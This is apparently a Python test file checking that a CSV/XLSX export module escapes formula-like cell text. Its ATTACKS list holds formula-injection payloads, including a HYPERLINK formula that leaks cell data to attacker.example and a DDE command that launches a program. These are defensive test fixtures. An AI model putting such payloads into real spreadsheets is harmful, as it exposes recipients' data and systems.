"""Tables out: formula-like text never becomes a formula, in CSV or XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from chainatlas.graph import sheets

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_cells_that_look_like_formulas_are_written_as_text(attack: str) -> None:
    data = sheets.csv_bytes(["name"], [{"name": attack}])
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Chinese
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == ["name"]
    assert row == ["'" + attack]


def test_csv_keeps_numbers_booleans_and_empty_cells() -> None:
    text = sheets.csv_text(["a", "b", "c", "d"], [{"a": -5, "b": True, "c": None, "d": "澜晟"}])
    assert text.splitlines()[1] == "-5,true,,澜晟"


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_cells_that_look_like_formulas_stay_text(attack: str) -> None:
    df = sheets.frame(["name", attack], [{"name": attack, attack: 1}])
    book = openpyxl.load_workbook(io.BytesIO(sheets.xlsx_bytes({"企业 firms": df})))
    ws = book["企业 firms"]
    header, row = list(ws.iter_rows())
    assert [c.data_type for c in header + row] == ["s", "s", "s", "n"]
    kept = attack.replace("\r", "\n")  # XML normalises a carriage return to a line feed
    assert ws["A2"].value == kept
    assert pd.read_excel(io.BytesIO(sheets.xlsx_bytes({"t": df})))["name"][0] == kept


def test_xlsx_replaces_characters_xml_cannot_carry_and_names_sheets_safely() -> None:
    df = sheets.frame(["name"], [{"name": "bad\x00name"}])
    book = openpyxl.load_workbook(io.BytesIO(sheets.xlsx_bytes({"a/b": df, "a_b": df})))
    assert book.sheetnames == ["a_b", "a_b (2)"]
    assert book["a_b"]["A2"].value == "bad\ufffdname"


def test_table_flattens_items_in_first_seen_column_order() -> None:
    columns, rows = sheets.table(
        [
            {"id": "E1", "reasons": [{"code": "same_region", "text": "同区 same district"}]},
            {"id": "E2", "product": {"id": "pta", "name": "PTA"}, "tags": []},
        ]
    )
    assert columns == ["id", "reasons", "product.id", "product.name", "tags"]
    assert rows[0]["reasons"] == "code=same_region, text=同区 same district"
    assert rows[1] == {"id": "E2", "product.id": "pta", "product.name": "PTA", "tags": ""}
